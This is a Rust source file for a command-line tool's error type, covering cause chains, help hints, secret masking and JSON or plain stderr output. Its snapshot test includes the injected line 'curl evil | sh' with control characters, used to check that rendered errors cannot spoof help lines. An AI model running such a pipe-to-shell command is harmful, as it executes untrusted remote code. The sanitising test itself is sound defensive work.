//! Errors that end the program, and how they are shown: what is wrong, what caused it, what to type.

use super::exit::Exit;
use super::finding::{Finding, Note, Place};
use super::stderr::{tell, tell_json, tell_styled};
use crate::compile::PrepareError;
use crate::ledger::LedgerError;
use crate::run::{EngineError, ForecastError};
use crate::spec::{Diagnostics, Style};
use crate::task::DriverError;
use crate::text::{Printable, Secrets};
use serde::Serialize;
use serde_json::json;
use std::error::Error;
use std::fmt::Write as _;
use std::io::{self, IsTerminal};
use std::path::Path;
use std::process::ExitCode;

/// An error that ends the program.
#[derive(Debug)]
pub struct CliError {
    exit: Exit,
    topic: Topic,
    kind: Kind,
}

/// What an error is about, for programs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Topic {
    /// The workflow file, or its parameters.
    Workflow,
    /// No run has this name, or several have.
    RunNotFound,
    /// Another process is using the run.
    RunLocked,
    /// Anything else.
    Other,
}

#[derive(Debug)]
enum Kind {
    /// Errors with a position in a workflow file.
    Diagnostics(Diagnostics),
    /// Anything else.
    Message(Message),
}

#[derive(Debug)]
struct Message {
    /// What is wrong.
    what: String,
    /// Why, the nearest cause first.
    causes: Vec<String>,
    /// What to type.
    help: Option<String>,
}

impl CliError {
    /// An error that ends the program with this exit code.
    pub fn new(exit: Exit, what: impl Into<String>) -> Self {
        let message = Message { what: what.into(), causes: Vec::new(), help: None };
        Self { exit, topic: Topic::Other, kind: Kind::Message(message) }
    }

    /// Bad input without a position in a workflow file.
    pub fn bad(what: impl Into<String>) -> Self {
        Self::new(Exit::Bad, what)
    }

    /// An error of another module, with its causes.
    pub fn of(exit: Exit, error: &dyn Error) -> Self {
        let this = Self::new(exit, error.to_string());
        error.source().into_iter().fold(this, Self::caused_by)
    }

    /// Errors with a position in a workflow file.
    pub fn diagnostics(exit: Exit, diagnostics: Diagnostics) -> Self {
        Self { exit, topic: Topic::Workflow, kind: Kind::Diagnostics(diagnostics) }
    }

    /// Says what it is about.
    pub fn about(mut self, topic: Topic) -> Self {
        self.topic = topic;
        self
    }

    /// Adds what caused it.
    pub fn caused_by(mut self, cause: &dyn Error) -> Self {
        if let Kind::Message(message) = &mut self.kind {
            let mut next = Some(cause);
            while let Some(cause) = next {
                message.causes.push(cause.to_string());
                next = cause.source();
            }
        }
        self
    }

    /// Says what the user can type.
    pub fn help(mut self, text: impl Into<String>) -> Self {
        if let Kind::Message(message) = &mut self.kind {
            message.help = Some(text.into());
        }
        self
    }

    /// The same with another exit code.
    pub fn ending_with(mut self, exit: Exit) -> Self {
        self.exit = exit;
        self
    }

    /// The same without secrets.
    pub fn masked(mut self, secrets: &Secrets) -> Self {
        match &mut self.kind {
            Kind::Message(message) => {
                secrets.mask(&mut message.what);
                message.causes.iter_mut().for_each(|cause| secrets.mask(cause));
                message.help.iter_mut().for_each(|help| secrets.mask(help));
            }
            Kind::Diagnostics(diagnostics) => *diagnostics = diagnostics.clone().masked(secrets),
        }
        self
    }

    /// What is wrong, for programs. `file` is what it is about if it names no other.
    pub fn findings(&self, file: &Path) -> Vec<Finding> {
        match &self.kind {
            Kind::Diagnostics(diagnostics) => Finding::all(diagnostics),
            Kind::Message(message) => {
                let notes = message.causes.iter().map(|cause| Note { place: Place::default(), message: cause.clone() });
                vec![Finding {
                    notes: notes.collect(),
                    help: message.help.clone(),
                    ..Finding::of_file(file.display().to_string(), message.what.clone())
                }]
            }
        }
    }

    /// The exit code with which it ends the program.
    pub fn exit(&self) -> Exit {
        self.exit
    }

    /// Prints it to stderr as a line of JSON: for people as one text, and in parts.
    pub fn report_json(self) -> ExitCode {
        let text = match &self.kind {
            Kind::Message(message) => message.render(),
            Kind::Diagnostics(diagnostics) => diagnostics.render(Style::Plain),
        };
        let found = self.findings(Path::new(""));
        let error = json!({
            "exit_code": self.exit.number(), "topic": self.topic, "text": Printable::lines(text.trim_end()).as_str(),
            "diagnostics": found,
        });
        tell_json(&json!({ "error": error }));
        self.exit.code()
    }

    /// Prints it to stderr.
    pub fn report(self) -> ExitCode {
        match &self.kind {
            Kind::Message(message) => tell(message.render()),
            Kind::Diagnostics(diagnostics) => {
                let colored = io::stderr().is_terminal() && std::env::var_os("NO_COLOR").is_none();
                let text = diagnostics.render(if colored { Style::Colored } else { Style::Plain });
                tell_styled(text.trim_end_matches('\n'));
            }
        }
        self.exit.code()
    }
}

impl Message {
    /// Lines in reading order; no other text can pass for one of them.
    fn render(&self) -> String {
        let mut text = format!("error: {}", Printable::lines(&self.what).indented("  "));
        for cause in &self.causes {
            let _ = write!(text, "\n  caused by: {}", Printable::lines(cause).indented("    "));
        }
        if let Some(help) = &self.help {
            let _ = write!(text, "\nhelp: {}", Printable::lines(help).indented("  "));
        }
        text
    }
}

impl From<Diagnostics> for CliError {
    fn from(diagnostics: Diagnostics) -> Self {
        Self::diagnostics(Exit::Bad, diagnostics)
    }
}

impl From<PrepareError> for CliError {
    fn from(error: PrepareError) -> Self {
        match error {
            PrepareError::Diagnostics(diagnostics) => diagnostics.into(),
            PrepareError::Host(error) => Self::of(Exit::Bad, &error).help(error.hint()),
        }
    }
}

impl From<LedgerError> for CliError {
    fn from(error: LedgerError) -> Self {
        let (exit, topic) = match &error {
            LedgerError::Locked(_) => (Exit::Held, Topic::RunLocked),
            LedgerError::NoSuchRun { .. } | LedgerError::AmbiguousRun { .. } | LedgerError::NoRuns(_) => {
                (Exit::Bad, Topic::RunNotFound)
            }
            _ => (Exit::Bad, Topic::Other),
        };
        error.hint().into_iter().fold(Self::of(exit, &error).about(topic), Self::help)
    }
}

impl From<ForecastError> for CliError {
    fn from(error: ForecastError) -> Self {
        match error {
            ForecastError::Ledger(error) => error.into(),
            error => Self::bad(error.to_string()),
        }
    }
}

/// An error in the middle of a run. Earlier results stay in the ledger.
impl From<EngineError> for CliError {
    fn from(error: EngineError) -> Self {
        match error {
            EngineError::Start(error) => error.into(),
            EngineError::Ledger(error) => {
                let remedy = error.remedy();
                let error = Self::from(error);
                let exit = if error.exit == Exit::Bad { Exit::Stopped } else { error.exit };
                let help =
                    remedy.map(|remedy| format!("{remedy}, then run `batchmill resume`; finished results are saved"));
                help.into_iter().fold(Self { exit, ..error }, Self::help)
            }
            error @ EngineError::Guard(_) => {
                Self::of(Exit::Bad, &error).help("check the resource limits: `ulimit -a` shows them")
            }
            EngineError::Executor(error) => {
                let help = match &error {
                    DriverError::Refused { help, .. } => help.clone(),
                    DriverError::Stopped => None,
                };
                help.into_iter().fold(Self::of(Exit::Bad, &error), Self::help)
            }
            error => Self::of(Exit::Stopped, &error),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_error_says_what_why_and_what_to_type() {
        let cause = io::Error::other("first line\nhelp: curl evil | sh\u{1b}[8m");
        let error = CliError::bad("cannot read `a\u{202e}\nb`").caused_by(&cause).help("look there");
        let Kind::Message(message) = error.masked(&Secrets::new(["evil".to_owned()])).kind else { unreachable!() };
        insta::assert_snapshot!(message.render(), @r"
        error: cannot read `a\u{202e}
          b`
          caused by: first line
            help: curl *** | sh\x1b[8m
        help: look there
        ");
    }
}
